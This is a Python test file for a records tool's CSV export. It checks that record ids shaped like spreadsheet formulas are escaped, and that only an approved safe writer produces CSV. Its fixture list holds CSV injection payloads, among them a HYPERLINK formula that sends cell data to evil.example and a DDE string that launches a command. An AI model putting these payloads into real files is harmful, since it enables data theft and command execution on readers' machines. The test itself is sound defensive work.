"""Every CSV the register writes is safe to open in a spreadsheet (issue 10, OWASP CSV
injection): the per-class ``report.csv`` of a disposition run and ``retention preview --csv``,
on records whose ids a spreadsheet would otherwise run as formulas."""

from __future__ import annotations

import ast
import csv
from pathlib import Path
from typing import Any

from helpers import record, write_ndjson
from retention_fixtures import SCHEDULE

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("https:evil.example?x="&A1)', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))


def test_ids_that_look_like_formulas_are_written_as_text(cli: Any, tmp_path: Path) -> None:
    schedule = tmp_path / "schedule.yaml"
    schedule.write_text(SCHEDULE, encoding="utf-8")
    env = {"COMMSLEDGER_RETENTION_SCHEDULE": str(schedule)}
    old = {"sent_at": "2015-05-01T10:00:00Z", "case": None, "tags": None, "purpose": "marketing"}
    docs = [record(n, id=rid, **old) for n, rid in enumerate(FORMULAS, 1)]
    assert cli("ingest", str(write_ndjson(tmp_path / "r.ndjson", docs)), env=env).code == 0
    preview = cli("retention", "preview", "--as-of", "2020-01-01", "--csv", str(tmp_path / "p.csv"), env=env)
    assert preview.code == 0, preview.stderr
    ran = cli(
        "retention",
        "run",
        "--yes",
        "--as-of",
        "2020-01-01",
        "--csv",
        str(tmp_path / "r.csv"),
        "--json",
        env=env,
    )
    assert ran.code == 0, ran.stderr
    signed = Path(ran.json["report"]["csv"])
    for path in (tmp_path / "p.csv", tmp_path / "r.csv", signed):
        ids = [row["record_id"] for row in _rows(path)]
        assert sorted(ids) == sorted("'" + rid for rid in FORMULAS), path
        for line in path.read_text(encoding="utf-8").splitlines():
            cells = next(csv.reader([line]))
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), line


def test_no_module_writes_csv_but_through_safewriter() -> None:
    """A fitness test: ``csv.writer`` and ``csv.DictWriter`` appear only in ``contract/csvsafe.py``
    and in the synthetic generator, whose CSV is input for ``ingest`` (a quote there would
    change the records it stands for), never a report."""
    allowed = {Path("contract/csvsafe.py"), Path("commsledger/synthetic/writers.py")}
    packages = ("contract", "ledger", "policies", "privacy", "search", "retention", "exports", "commsledger")
    found = [
        path.relative_to(ROOT) for p in packages for path in (ROOT / p).rglob("*.py") if _writes_csv(path)
    ]
    assert set(found) <= allowed, found


def _writes_csv(path: Path) -> bool:
    return any(
        isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and (node.value.id, node.attr) in (("csv", "writer"), ("csv", "DictWriter"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
    )
